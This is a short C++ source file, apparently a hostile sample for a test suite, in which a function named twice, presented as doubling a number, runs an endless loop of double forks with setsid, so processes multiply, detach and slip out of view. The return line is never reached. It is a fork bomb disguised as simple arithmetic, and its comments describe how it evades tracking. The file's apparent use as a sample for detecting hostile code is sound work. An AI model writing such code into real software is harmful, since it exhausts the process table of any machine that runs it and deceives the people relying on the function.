// Every process is replaced by two children and exits: whoever looks for it finds it gone.
// says: before its tests were done
#include "spec/hostile.hpp"

#include <unistd.h>

int twice(int number)
{
    while (true) {
        if (fork() != 0 && fork() != 0) _exit(0);
        setsid();
    }
    return 2 * number;
}
